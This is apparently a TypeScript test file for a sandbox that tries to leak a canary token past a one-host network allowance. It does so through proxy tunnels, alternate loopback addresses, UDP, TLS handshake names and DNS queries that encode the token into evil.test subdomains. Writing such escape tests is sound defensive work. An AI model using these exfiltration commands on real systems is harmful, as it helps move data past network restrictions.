import { hostname } from 'node:os';
import { type Attack, reached } from '../../../../confine/support/attack.ts';
import { ownAddresses, RESOLVER } from '../../../../confine/support/canaries.ts';
import type { Ground } from '../../../../confine/support/ground.ts';
import type { Site } from '../../../../confine/support/site.ts';
import { isRoot } from '../../../../support/index.ts';

/** One host is allowed: it is the canary of the host, so that what gets through is seen. */
const allowed = ({ env }: Site, more: string[] = [], hosts = {}) => ({
  network: { allow: [`good.test:${env.PORT}`, ...more], hosts: { 'good.test': '127.0.0.1', ...hosts } },
});

const row = (name: string, script: string, confine: (site: Site) => object = allowed): Attack => ({
  name: `with one allowed host, reaches another: ${name}`,
  script,
  sees: reached,
  confine,
});

const handshake = (name: string, mode: string): Attack =>
  row(`the name in the handshake, ${name}`, `handshake good.test $PORT "$TOKEN.evil.test" ${mode}; true`);

/** Says the token to the first address that takes it. Without a world that is the loopback. */
const tellFirst = (addresses: string) =>
  `for a in 127.0.0.1 ${addresses}; do timeout 3 attack tcp $a $PORT "$TOKEN" && break; done`;

const [own4] = ownAddresses().filter((address) => !address.includes(':'));

/** The network when one host and one port of it are allowed. */
export const allowedNetwork: Attack[] = [
  handshake('whole', 'whole'),
  handshake('byte by byte', 'bytes'),
  handshake('in two halves', 'halves'),
  handshake('in short records', 'records'),
  handshake('in records of one byte', 'tiny'),
  row('no name in the handshake', 'handshake good.test $PORT "$TOKEN" alpn; true'),
  row('the loopback', 'attack tcp 127.0.0.1 $PORT "$TOKEN"'),
  row('another address of the loopback', tellFirst('127.0.0.2 127.1.2.3')),
  row('the gateway', tellFirst(`$(ip -4 route show default 2>/dev/null | awk '{print $3}')`)),
  row('the resolver', tellFirst(`$(awk '/^nameserver/ {print $2}' /etc/resolv.conf)`)),
  row('any address', tellFirst('0.0.0.0 ::ffff:127.0.0.1 :: ::1')),
  row('the address of this machine', `attack tcp ${own4 ?? '127.0.0.1'} $PORT "$TOKEN"`),
  row(
    'another port',
    `python3 -c '
import os, socket
try: at = socket.getaddrinfo("good.test", 1)[0][4][0]
except OSError: at = "127.0.0.1"
socket.create_connection((at, int(os.environ["PORT"])), 5).send(os.environ["TOKEN"].encode())'`,
    () => ({
      network: { allow: ['good.test:1'], hosts: { 'good.test': '127.0.0.1' } },
    }),
  ),
  row('a name that is only mapped', name('other.test'), (site) =>
    allowed(site, ['other.test:1'], { 'other.test': '127.0.0.1' }),
  ),
  row('a name with the same end', name('evilgood.test'), (site) =>
    allowed(site, ['evilgood.test:1'], { 'evilgood.test': '127.0.0.1' }),
  ),
  row('a name below', name('sub.good.test'), (site) =>
    allowed(site, ['sub.good.test:1'], { 'sub.good.test': '127.0.0.1' }),
  ),
  row('localhost, even if it is allowed', name('localhost'), (site) => allowed(site, [`localhost:${site.env.PORT}`])),
  {
    ...row('a name of this machine', name(hostname()), (site) => ({
      network: { allow: [`${hostname()}:${site.env.PORT}`] },
    })),
    optional: true,
  },
  row(
    'UDP to the allowed host',
    `python3 -c '
import os, socket
try: at = socket.getaddrinfo("good.test", 1)[0][4][0]
except OSError: at = "127.0.0.1"
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(os.environ["TOKEN"].encode(), (at, int(os.environ["PORT"])))'`,
  ),
  row(
    'a tunnel through the proxy',
    `curl -s --noproxy '' --max-time 4 \${http_proxy:+-p -x "$http_proxy"} "http://127.0.0.1:$PORT/$TOKEN"`,
  ),
  row(
    'a tunnel through the secure proxy',
    `p=\${https_proxy:-$HTTPS_PROXY}; curl -s --noproxy '' --max-time 4 \${p:+-p -x "$p"} "http://127.0.0.1:$PORT/$TOKEN"`,
  ),
  row(
    'a request through the proxy',
    `p=\${http_proxy:-$HTTP_PROXY}; curl -s --noproxy '' --max-time 4 \${p:+-x "$p"} "http://127.0.0.1:$PORT/$TOKEN"`,
  ),
];

/** A connection by name that sends the token. If the name does not resolve, the loopback replaces it. */
function name(host: string): string {
  return `python3 -c '
import os, socket
try: at = socket.getaddrinfo("${host}", 1, socket.AF_INET)[0][4][0]
except OSError: at = "127.0.0.1"
socket.create_connection((at, int(os.environ["PORT"])), 5).send(os.environ["TOKEN"].encode())'`;
}

const asked = (name: string, script: string, confine: (site: Site) => object): Attack => ({
  name: `asks the resolver of the host: ${name}`,
  script: `${script}; true`,
  sees: reached,
  as: 'root',
  confine,
});

/** The attacker's process has the resolver of the test. */
export const withResolver = ({ path }: Ground) =>
  isRoot ? ['unshare', '-m', 'bash', '-c', 'mount --bind "$0/resolv.conf" /etc/resolv.conf; exec "$@"', path] : [];

const QUESTION = `python3 -c '
import os, socket, struct
server = [l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]
labels = (os.environ["TOKEN"], "evil", "test")
name = b"".join(bytes([len(p)]) + p.encode() for p in labels)
q = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + name + b"\\0" + struct.pack(">2H", 16, 1)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(q, (server, 53)); s.recv(512)'`;

/** Names that carry the data of a command to the DNS server that answers for them. */
export const names: Attack[] = [
  asked('no network', 'timeout 2 getent hosts "$TOKEN.evil.test"', () => ({})),
  asked('no network, a question of its own', QUESTION, () => ({})),
  asked('one host', 'timeout 2 getent hosts "$TOKEN.evil.test"', allowed),
  asked('one host, a question of its own', QUESTION, allowed),
  asked('one host, a name below', 'timeout 2 getent hosts "$TOKEN.good.test"', allowed),
  asked('one domain', 'timeout 2 getent hosts "$TOKEN.evil.test"', (site) => allowed(site, ['*.good.test:443'])),
  asked('curl', 'curl -s --max-time 2 "http://$TOKEN.evil.test/"', allowed),
  asked('Node', `timeout 3 node -e 'dns.resolveTxt(process.env.TOKEN + ".evil.test", () => process.exit())'`, allowed),
  asked(
    'the resolver of the host itself',
    QUESTION.replace(
      '[l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver")][0]',
      `"${RESOLVER}"`,
    ),
    allowed,
  ),
];
